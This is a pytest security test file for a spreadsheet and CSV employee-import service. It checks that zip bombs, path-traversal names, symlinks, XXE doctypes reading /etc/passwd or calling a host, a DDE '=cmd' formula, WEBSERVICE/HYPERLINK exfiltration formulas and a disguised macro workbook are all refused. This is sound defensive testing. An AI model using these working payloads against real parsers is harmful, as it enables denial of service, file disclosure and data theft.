"""Attacks by files (group U): spreadsheets made to fill memory, to write elsewhere, to read or call something, to be taken
for what they aren't. Each is refused soon, with a code, in bounded memory; no person comes of it, and the service goes on."""
import functools
import io
import os
import re
import secrets
import socket
import struct
import time
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest

import staff

SHEET, STRINGS, RELS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/_rels/workbook.xml.rels"
CPU_S, SOON_S = 2, 15  # of work until it is refused; and by the clock, where ten others want the two cores
MEMORY_MB = 64  # that a refused file may add to the service at its highest


@pytest.fixture(scope="module")
def hr(suite):
    return suite.sign_in_as("HR", "demo")


@pytest.fixture(scope="module")
def row():
    return staff.Staff(secrets.token_hex(4), "U" + secrets.token_hex(3)).one()


@pytest.fixture(scope="module")
def book(row):
    """The parts of a good file of one person."""
    made, out = openpyxl.Workbook(), io.BytesIO()
    made.active.append(list(row))
    made.active.append([str(v) for v in row.values()])
    made.save(out)
    with zipfile.ZipFile(out) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    if STRINGS not in parts:
        parts[STRINGS] = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
        parts[RELS] = parts[RELS].replace(b"</Relationships>", b'<Relationship Id="s1" Target="/xl/sharedStrings.xml" '
                                          b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>')
    return parts


def zipped(parts, *more):
    """parts: name -> bytes. more: (ZipInfo or name, bytes) behind them."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in [*parts.items(), *more]:
            z.writestr(name, data)
    return out.getvalue()


OPEN = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def with_sheet(book, inner):
    return zipped(book | {SHEET: OPEN + inner + b"</worksheet>"})


def peak_kb(suite):
    return int(re.search(r"VmHWM:\s+(\d+)", Path(f"/proc/{suite.pid('archive')}/status").read_text())[1])


def cpu_s(suite):
    fields = Path(f"/proc/{suite.pid('archive')}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def reset_peak(suite):
    Path(f"/proc/{suite.pid('archive')}/clear_refs").write_text("5")
    return peak_kb(suite)


WORST = {}


@pytest.fixture
def refused(suite, hr, row):
    """Sends a file for nobody's good; what it was told, once all else about the refusal is looked at."""
    def send(data, *codes):
        pid, before, began, worked = suite.pid("archive"), reset_peak(suite), time.monotonic(), cpu_s(suite)
        got = staff.begin_load(hr, data)
        if got.status != 202:
            assert got.status in (413, 422) and got.code, (got.status, got.body)
            told = {got.code}
        else:
            job = staff.end_of_load(hr, got.json["id"])
            assert job["state"] == "FAILED" and job["result"]["created"] == 0, job
            told = {f["code"] for f in job["result"]["faults"]}
        took, work, grown = time.monotonic() - began, cpu_s(suite) - worked, (peak_kb(suite) - before) / 1024
        assert not codes or told & set(codes), told
        assert suite.pid("archive") == pid
        assert hr.get("/api/v1/employees", query={"employee_number": row["工号"]}).expect(200).json["items"] == []
        for what, value in (("files", WORST.get("files", 0) + 1), ("s", took), ("s of CPU", work), ("MB", grown)):
            WORST[what] = max(WORST.get(what, 0), round(value, 2))
        assert took < SOON_S and work < CPU_S and grown < MEMORY_MB + 2 * len(data) / (1 << 20), (took, work, grown)
    return send


def test_the_good_one_is_taken(hr, book, row):
    """What all those below are spoiled from; in a dry run, so that each of them could make the same person."""
    job = staff.end_of_load(hr, staff.begin_load(hr, zipped(book), dry_run="true").expect(202).json["id"])
    assert job["state"] == "CHECKED" and job["result"]["created"] == 1, job


# ---- too much of it (U01) ----

@functools.cache
def deflated(unit, times):
    """Of many megabytes, without having them here."""
    pack, out = zlib.compressobj(9, zlib.DEFLATED, -15), []
    crc = 0
    for _ in range(times):
        out.append(pack.compress(unit))
        crc = zlib.crc32(unit, crc)
    return b"".join(out) + pack.flush(), crc, len(unit) * times


def raw_entry(name, packed, crc, claimed, offset):
    """Local header with data, and the directory's entry, that say what they like."""
    head = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(packed), claimed, len(name), 0) + name + packed
    listed = struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 33, crc, len(packed), claimed, len(name), 0, 0, 0, 0, 0, offset) + name
    return head, listed


def by_hand(entries):
    """A zip of (name, packed, crc, claimed size)."""
    body, listed = b"", b""
    for name, packed, crc, claimed in entries:
        head, one = raw_entry(name.encode(), packed, crc, claimed, len(body))
        body, listed = body + head, listed + one
    return body + listed + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(entries), len(entries), len(listed), len(body), 0)


def packed(data):
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    return pack.compress(data) + pack.flush(), zlib.crc32(data), len(data)


@pytest.mark.parametrize("part", [SHEET, STRINGS, "xl/styles.xml", "xl/workbook.xml", "_rels/.rels"])
def test_a_part_that_swells(refused, book, part):
    """Half a gigabyte of blanks in half a megabyte, in whichever part is read."""
    bomb = deflated(b" " * (1 << 20), 512)
    entries = [(n, *packed(d)) for n, d in book.items() if n != part]
    data = by_hand([*entries, (part, *bomb)])
    assert len(data) < 600 << 10
    refused(data, "SHEET_TOO_LARGE", "SHEET_SYNTAX")


def test_a_size_that_lies(refused, book):
    """The directory says ten bytes; what comes is counted as it comes."""
    data, crc, _ = deflated(b" " * (1 << 20), 512)
    entries = [(n, *packed(d)) for n, d in book.items() if n != SHEET]
    for claimed in (10, 0, 0xfffffffe):
        refused(by_hand([*entries, (SHEET, data, crc, claimed)]), "SHEET_TOO_LARGE", "SHEET_SYNTAX", "SHEET_FORMAT")


def test_too_many_entries(refused, book):
    refused(zipped(book, *((f"x/{i}", b"") for i in range(65536 - len(book)))), "SHEET_TOO_LARGE")


def test_a_zip_in_a_zip(refused, book):
    inner = zipped(book)
    refused(zipped({"a.xlsx": inner}), "SHEET_FORMAT")
    refused(zipped(book | {SHEET: inner}), "SHEET_SYNTAX")


# ---- names (U03) ----

def linked(name, to):
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return info, to


@pytest.mark.parametrize("name", ["../../tmp/{}", "xl/../../../tmp/{}", "/tmp/{}", "C:\\{}", "C:/{}", "..\\..\\{}", "xl/worksheets/..", "//host/{}"])
def test_names_that_lead_elsewhere(refused, book, name):
    """Refused, though nothing is ever unpacked to a place."""
    mark = "renhe-" + secrets.token_hex(6)
    refused(zipped(book, (name.format(mark), b"x")), "SHEET_SYNTAX")
    assert not list(Path("/tmp").glob(mark + "*")) and not list(Path("/").glob(mark + "*"))


def test_a_link_among_the_parts(refused, book):
    refused(zipped(book, linked("xl/link", b"/etc/passwd")), "SHEET_SYNTAX")
    refused(zipped({n: d for n, d in book.items() if n != SHEET}, linked(SHEET, b"/etc/passwd")), "SHEET_SYNTAX")


def test_a_nul_in_a_name(refused, book):
    """Of two names that are one where a NUL ends them, neither is the other."""
    entries = [(n, *packed(d)) for n, d in book.items() if n != SHEET]
    refused(by_hand([*entries, (SHEET + "\0.txt", *packed(book[SHEET]))]), "SHEET_SYNTAX", "SHEET_FORMAT")


# ---- XML (U04) ----

DOCTYPES = ["<!DOCTYPE a>", '<!DOCTYPE a SYSTEM "http://{0}/x.dtd">', '<!DOCTYPE a [<!ENTITY e SYSTEM "http://{0}/e">]>',
            '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://{0}/p"> %p;]>',
            '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>']
PARTS = ["_rels/.rels", "xl/workbook.xml", RELS, "xl/styles.xml", STRINGS, SHEET]


@pytest.fixture
def trap():
    """Somebody who waits to be called, and whether he was."""
    with socket.create_server(("127.0.0.1", 0)) as s:
        s.settimeout(0.2)
        yield f"127.0.0.1:{s.getsockname()[1]}"
        with pytest.raises(socket.timeout):
            s.accept()


@pytest.mark.parametrize("part", PARTS)
def test_document_types(refused, book, trap, part):
    """In each part that is read; nobody is called and no file is read."""
    assert part in book, sorted(book)
    for text in DOCTYPES:
        body = re.sub(rb"^<\?xml[^>]*\?>", b"", book[part])
        refused(zipped(book | {part: b'<?xml version="1.0" encoding="UTF-8"?>' + text.format(trap).encode() + body}), "SHEET_SYNTAX")


def test_includes_and_strange_encodings(refused, hr, book, trap):
    """XInclude is a tag like any other; other encodings hide nothing."""
    text = book[SHEET].replace(b"<sheetData>", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://{trap}/x" parse="text"/>'.encode()
                               + b"<sheetData>")
    job = staff.end_of_load(hr, staff.begin_load(hr, zipped(book | {SHEET: text}), dry_run="true").expect(202).json["id"])
    assert job["state"] == "CHECKED" and job["result"]["created"] == 1
    hidden = ('<?xml version="1.0" encoding="UTF-16"?>' + DOCTYPES[1].format(trap) + "<worksheet/>").encode("utf-16")
    refused(zipped(book | {SHEET: hidden}), "SHEET_SYNTAX")
    refused(zipped(book | {SHEET: b'<?xml version="1.0" encoding="UTF-7"?>+ADw-worksheet/+AD4-'}), "SHEET_SYNTAX")


# ---- places and numbers (U05) ----

@pytest.mark.parametrize("inner", [
    b'<sheetData><row r="1"><c r="A1" t="s"><v>4294967295</v></c></row></sheetData>',
    b'<sheetData><row r="1"><c r="A1" t="s"><v>-1</v></c></row></sheetData>',
    b'<sheetData><row r="1"><c r="ZZZ9999999" t="n"><v>1</v></c></row></sheetData>',
    b'<sheetData><row r="2147483648"><c r="A2147483648"><v>1</v></c></row></sheetData>',
    b'<sheetData><row r="18446744073709551617"><c><v>1</v></c></row></sheetData>',
    b'<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
    b'<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
    b'<sheetData>' + b'<row><c><v>1</v></c></row>' * 21000 + b'</sheetData>',
    b'<sheetData><row>' + b'<c><v>1</v></c>' * 20000 + b'</row></sheetData>',
    b'<cols>' + b'<col min="1" max="16384"/>' * 100000 + b'</cols><sheetData/>'], ids=lambda b: b[:60].decode())
def test_places_that_no_sheet_has(refused, book, inner):
    """Beyond a sheet's edge, or far more than any; whatever is said, it is bounded."""
    refused(with_sheet(book, inner))


def test_a_million_styles(refused, book):
    styles = b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>' + b'<xf numFmtId="14"/>' * 1000000 + \
        b"</cellXfs></styleSheet>"
    refused(zipped(book | {"xl/styles.xml": styles, SHEET: OPEN + b'<sheetData/></worksheet>'}))


# ---- formulas and macros (U06) ----

@pytest.mark.parametrize("formula", ['=cmd|"/c calc"!A1', '=HYPERLINK("http://{}/"&A1)', '=WEBSERVICE("http://{}/")', '=[1]Sheet1!A1', '=1+1'])
def test_formulas_are_no_values(hr, row, trap, formula):
    """Nothing is evaluated, nobody called: a formula without a value of its own is an empty cell or a refused one."""
    made, out = openpyxl.Workbook(), io.BytesIO()
    made.active.append(list(row))
    made.active.append([formula.format(trap) if k == "姓名" else str(v) for k, v in row.items()])
    made.save(out)
    job = staff.end_of_load(hr, staff.begin_load(hr, out.getvalue(), dry_run="true").expect(202).json["id"])
    assert job["result"]["created"] == 0 and {(f["row"], f["column"]) for f in job["result"]["faults"]} == {(2, "姓名")}, job
    assert "calc" not in str(job) and "HYPERLINK" not in str(job)


def test_a_macro_under_another_name(refused, book):
    """An .xlsm that says it is none."""
    kinds = book["[Content_Types].xml"].replace(b"spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main")
    refs = book[RELS].replace(b"</Relationships>", b'<Relationship Id="m1" Target="vbaProject.bin" '
                                                      b'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/></Relationships>')
    refused(zipped(book | {"[Content_Types].xml": kinds, RELS: refs, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "SHEET_MACRO")


# ---- texts (U08) ----

@pytest.mark.parametrize("data, codes", [
    ("工号,姓名\nE1,\"张".encode(), ("SHEET_SYNTAX",)), (b"a," * 10000000, ("SHEET_TOO_LARGE",)), (b"\0" * 1000, ("SHEET_FORMAT", "SHEET_ENCODING")),
    ("工号,姓名\nE1,张\0三\n".encode(), ()), (b'"' * 1000001, ("SHEET_SYNTAX", "SHEET_TOO_LARGE")), ("工号,姓名\r".encode() * 30000, ())],
    ids=["open quote", "10 million columns", "NULs", "a NUL in a name", "a million quotes", "CR alone"])
def test_tables_that_are_none(refused, data, codes):
    refused(data, *codes)


# ---- what comes back (U16, U09) ----

def test_what_a_download_is_called(hr, row):
    """The suite's own words, whatever a name in the request or the file is; told as RFC 6266 says."""
    spoiled = staff.csv_bytes([row | {"姓名": ""}])
    for name in ("../../etc/passwd", "a\u202egpj.exe", "x" * 300, 'a"; filename="b.html', "=cmd.csv"):
        got = hr.request("POST", "/api/v1/employee-imports", spoiled, key=secrets.token_hex(8), query={"dry_run": "true"},
                         headers={"Content-Type": "text/csv", "Content-Disposition": f"attachment; filename*=UTF-8''{name!a}"})
        job = staff.end_of_load(hr, got.expect(202).json["id"])
        file = hr.get(f"/api/v1/employee-imports/{job['id']}/file").expect(200)
        assert re.fullmatch(r'attachment; filename="import-errors\.(csv|xlsx)"', file.headers["content-disposition"]), file.headers
        assert file.headers["x-content-type-options"] == "nosniff" and file.headers["cache-control"] == "no-store"


def test_a_name_that_is_a_formula(hr):
    """Kept as it is written, and a text in the file that goes back (U09)."""
    made = staff.Staff(secrets.token_hex(4), "U" + secrets.token_hex(3))
    starts = ["=1+1", "+86", "-1", "@SUM(A1)", "＝1+1", "＋86", "－1", "＠x"]
    rows_ = [made.one() | {"姓名": s + "王", "入职日期": "没有"} for s in starts]
    job = staff.end_of_load(hr, staff.begin_load(hr, staff.csv_bytes(rows_), dry_run="true").expect(202).json["id"])
    text = hr.get(f"/api/v1/employee-imports/{job['id']}/file").expect(200).body.decode("utf-8-sig")
    for s in starts:
        assert f'"\'{s}王"' in text and f',"{s}王"' not in text, s


def test_what_the_worst_took(figure):
    """Last: all files above, refused."""
    figure(f"{WORST.pop('files', 0)} files refused; the worst: {', '.join(f'{v} {k}' for k, v in WORST.items())} more than before")
